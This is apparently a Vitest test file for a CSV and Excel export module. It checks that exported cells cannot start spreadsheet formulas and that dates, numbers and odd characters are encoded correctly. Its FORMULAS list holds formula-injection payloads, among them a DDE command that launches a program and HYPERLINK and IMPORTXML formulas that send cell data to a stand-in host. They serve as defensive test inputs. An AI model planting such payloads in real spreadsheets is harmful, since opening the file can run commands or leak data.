import { unzipSync, strFromU8 } from "fflate";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { parse } from "csv-parse/sync";
import { csvOf, MOST_SHEET_ROWS, xlsxOf, type TableColumn, type TableFile } from "#app/platform/table-file.server";

type Row = { text: string; number: number | null; minor: number | null; day: string | null; at: Date | null };

const table = (rows: readonly Row[], heading = "text"): TableFile<Row> => ({
  name: "table",
  columns: [
    { header: heading, kind: "text", value: (row) => row.text },
    { header: "number", kind: "number", value: (row) => row.number },
    { header: "money", kind: "money", value: (row) => (row.minor === null ? null : { minor: row.minor, currency: "EUR" }) },
    { header: "day", kind: "day", value: (row) => row.day },
    { header: "at", kind: "instant", value: (row) => row.at },
  ] satisfies Array<TableColumn<Row>>,
  steps: async function* () {
    yield await Promise.resolve(rows.slice(0, 1));
    yield rows.slice(1);
  },
});

const row = (text: string, more: Partial<Row> = {}): Row => ({ text, number: null, minor: null, day: null, at: null, ...more });

async function csv(file: TableFile<Row>): Promise<string[][]> {
  let text = "";
  for await (const part of csvOf(file)) text += part;
  return parse(text);
}

async function sheet(file: TableFile<Row>): Promise<{ xml: string; strings: string[] }> {
  const files = unzipSync(new Uint8Array(await xlsxOf(file, { timeZone: "Europe/Amsterdam", cutText: "cut" })));
  const read = (name: string) => strFromU8(files[name] ?? new Uint8Array());
  const strings = [...read("xl/sharedStrings.xml").matchAll(/<si>\s*<t[^>]*>([^<]*)<\/t>\s*<\/si>/g)].map(([, text = ""]) => text);
  return { xml: read("xl/worksheets/sheet1.xml"), strings };
}

const FORMULAS = [
  "=1+1",
  "=cmd|'/c calc'!A1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(1)",
  '"=1+1',
  ";=1+1",
  ",=1+1",
  " =1+1",
  '=HYPERLINK("http://e.example/"&A1,"x")',
  '=IMPORTXML("http://e.example",A1)',
];

describe("no cell and no heading starts a formula", () => {
  test.each(FORMULAS)("%j in a CSV", async (text) => {
    const [heading, cells] = await csv(table([row(text)], text));
    for (const cell of [heading?.[0], cells?.[0]]) expect(cell).toBe(`'${text}`);
  });

  test.each(FORMULAS)("%j in a workbook is a text cell", async (text) => {
    const { xml } = await sheet(table([row(text)], text));
    expect(xml).not.toMatch(/<f[ >]/);
    const texts = [...xml.matchAll(/<c r="A[12]"[^>]*>/g)].map(([cell]) => cell);
    expect(texts).toHaveLength(2);
    for (const cell of texts) expect(cell).toContain('t="s"');
  });

  test("a figure below zero stays a figure", async () => {
    const rows = [row("x", { number: -3, minor: -1_250 })];
    expect((await csv(table(rows)))[1]).toEqual(["x", "-3", "-12.50", "", ""]);
    const { xml } = await sheet(table(rows));
    expect(xml).toMatch(/<c r="B2"[^>]*>\s*<v>-3<\/v>/);
    expect(xml).toMatch(/<c r="C2"[^>]*>\s*<v>-12.5<\/v>/);
  });
});

test("dates are dates: a day as it is, an instant on the clock of the workspace", async () => {
  const rows = [row("x", { day: "2026-03-01", at: new Date("2026-07-01T10:30:00Z") })];
  expect((await csv(table(rows)))[1]).toEqual(["x", "", "", "2026-03-01", "2026-07-01T10:30:00.000Z"]);
  const { xml } = await sheet(table(rows));
  const value = (cell: string) => Number(new RegExp(`<c r="${cell}"[^>]*>\\s*<v>([^<]*)</v>`).exec(xml)?.[1]);
  expect(value("D2")).toBe(46_082); // days since 1899-12-30
  expect(value("E2")).toBeCloseTo(46_204 + 12.5 / 24, 8); // 12:30 in Amsterdam
});

test("whatever a text holds, both files can be read and say it", async () => {
  const anyText = fc.string({ unit: "binary", minLength: 1, maxLength: 60 });
  await fc.assert(
    fc.asyncProperty(anyText, async (text) => {
      const [, cells] = await csv(table([row(text)]));
      expect([text, `'${text}`]).toContain(cells?.[0]);
      const { xml, strings } = await sheet(table([row(text)]));
      expect(xml).not.toMatch(/<f[ >]/);
      expect(strings.join("")).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
    }),
    { numRuns: 150 },
  );
});

test("a text that a spreadsheet would decode stays what it is", async () => {
  expect((await sheet(table([row("_x0041_BC & <b>")]))).strings).toContain("_x005F_x0041_BC &amp; &lt;b&gt;");
});

test("a workbook of too many rows ends in a line that says so, and a full one does not", async () => {
  const rows = (count: number) => Array.from({ length: count }, (_, index) => row(`r${index}`));
  expect((await sheet(table(rows(MOST_SHEET_ROWS)))).strings).not.toContain("cut");
  const { strings } = await sheet(table(rows(MOST_SHEET_ROWS + 1)));
  expect(strings).toContain("cut");
  expect(strings).not.toContain(`r${MOST_SHEET_ROWS}`);
}, 60_000);
